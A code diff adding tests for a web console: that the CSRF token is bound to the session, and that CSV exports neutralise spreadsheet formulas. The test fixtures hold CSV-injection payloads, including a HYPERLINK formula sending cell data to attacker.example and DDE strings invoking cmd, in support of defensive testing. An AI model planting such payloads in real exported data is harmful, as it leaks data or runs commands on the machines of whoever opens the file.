@@ -3,14 +3,22 @@ a CSRF token bound to the session, and CSV cells a spreadsheet will not run."""
 
 from __future__ import annotations
 
+import csv
+import io
+import re
+
 import httpx
 import pytest
 from fastapi import FastAPI
 from sqlmodel.ext.asyncio.session import AsyncSession
 
 from app.staff import create_user
+from console.routes import spreadsheet_safe
 from tests.conftest import graphql, now
 from tests.console.test_console import PASSWORD, csrf_of, sign_in
+
+HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+HOSTILE_EXTERNAL_ID = "@SUM(1+1)*cmd|' /C calc'!A0 \"☃\""
 
 
 @pytest.fixture
@@ -119,3 +127,39 @@ async def test_the_csrf_token_is_bound_to_the_session(app: FastAPI, client: http
     assert fresh.status_code == 303
     header_only = await client.post("/console/logout", headers={"X-CSRFToken": theirs})
     assert header_only.status_code == 303, "htmx sends the token as a header"
+
+
+async def test_csv_exports_neutralise_formulas(client: httpx.AsyncClient, staff: None) -> None:
+    await sign_in(client, "cs@example.com", PASSWORD)
+    token = csrf_of((await client.get("/console/customers")).text)
+    created = await client.post(
+        "/console/customers",
+        data={"external_id": HOSTILE_EXTERNAL_ID, "name": HOSTILE_NAME, "currency": "USD", "csrftoken": token},
+    )
+    assert created.status_code == 303
+    exported = await client.get("/console/customers.csv", params={"search": "attacker.example"})
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert [(row["name"], row["external_id"]) for row in rows] == [("'" + HOSTILE_NAME, "'" + HOSTILE_EXTERNAL_ID)]
+    invoices = await client.get(f"{created.headers['location']}/invoices.csv")
+    assert invoices.status_code == 200, "the file is named after the external id, which may be any text"
+    disposition = invoices.headers["content-disposition"]
+    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', disposition), disposition
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5.00", "-5.00"),
+        ("+12", "+12"),
+        ("Acme = best", "Acme = best"),
+        (42, 42),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_gets_a_quote(cell: object, safe: object) -> None:
+    assert spreadsheet_safe(cell) == safe
